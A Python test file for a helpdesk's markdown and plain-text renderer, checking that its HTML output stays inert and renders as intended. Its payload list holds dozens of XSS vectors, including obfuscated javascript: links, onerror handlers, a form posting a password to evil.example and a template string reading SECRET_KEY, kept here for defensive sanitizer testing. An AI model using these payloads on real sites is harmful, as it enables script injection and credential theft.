"""Text that people write stays text."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpdesk.lib.markdown import ATTRIBUTES, MAX_REMEMBERED, TAGS, rendered, to_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</p></div></body><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "<javascript:alert(1)>",
    "<data:text/html,1>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[a][b]\n\n[b]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="alert(1)](x)',
    "[![x](x)](javascript:alert(1))",
    "[[[[x](javascript:alert(1))](javascript:alert(1))]]",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "```<script>\nx\n```",
    "`<script>alert(1)</script>`",
    "a|b\n-|-\n<script>alert(1)</script>|x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "{{ settings.SECRET_KEY }}{% debug %}",
    "\u202e<script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]
# How browsers find a scheme: letters up to a colon, whatever white space and controls stand before or within.
IGNORED_IN_ADDRESSES = re.compile(r"[\x00-\x20\x7f]")
SCHEME = re.compile(r"[a-z][a-z0-9+.-]*:", re.IGNORECASE)
SCHEMES = ("http:", "https:", "mailto:")


class Found(HTMLParser):
    """Everything a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_inert(html: str) -> None:
    found = Found()
    found.feed(html)
    for tag, attributes in found.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}
        href = IGNORED_IN_ADDRESSES.sub("", attributes.get("href") or "")
        scheme = SCHEME.match(href)
        assert scheme is None or scheme[0].lower() in SCHEMES
        if tag == "a" and "href" in attributes:
            assert set((attributes["rel"] or "").split()) >= {"noopener", "noreferrer", "nofollow"}


@pytest.mark.parametrize("text_format", ["plain", "markdown"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_inert(payload: str, text_format: str) -> None:
    for frame in ("{}", "before {} after", "> {}\n\n* {}", "**{}**", "[{}](http://x)"):
        assert_inert(to_html(frame.replace("{}", payload), text_format))


@given(st.text(st.sampled_from("<>[]()!\"'`*_&#;:/=javscriptonxdh \n|-\\\x00")))
def test_no_mixture_of_dangerous_characters_acts(text: str) -> None:
    assert_inert(to_html(text, "markdown"))
    assert_inert(to_html(text, "plain"))


def test_markdown_is_shown_as_meant() -> None:
    html = to_html("# Hi\n\n**bold** ~~gone~~\nnext [link](https://a.example)\n\n- one\n\na|b\n-|-\n1|2", "markdown")
    shown = ("<h1>Hi</h1>", "<strong>bold</strong>", "<s>gone</s><br>", 'href="https://a.example"', "<li>one</li>")
    assert [part for part in (*shown, "<td>1</td>") if part not in html] == []


def test_plain_text_keeps_its_lines_and_its_signs() -> None:
    assert to_html("a < b & c\r\n**d**\n\n\n\ne", "plain") == "<p>a &lt; b &amp; c<br>**d**</p><p>e</p>"


def test_raw_html_in_markdown_is_shown_as_text() -> None:
    assert "&lt;b&gt;" in to_html("<b>x</b>", "markdown")


@pytest.mark.parametrize(
    "text", ["[" * 20_000, "*a " * 8_000, "> " * 10_000, "![[()" * 5_000, "a|" * 9_000 + "\n" + "-|" * 9_000]
)
def test_deep_nesting_does_not_break_it(text: str) -> None:
    assert_inert(to_html(text, "markdown"))


def test_what_is_kept_is_what_would_be_made_again() -> None:
    for text in ("**a**", "b" * MAX_REMEMBERED + "*c*"):
        for text_format in ("markdown", "plain", "markdown"):
            assert to_html(text, text_format) == rendered(text, text_format)
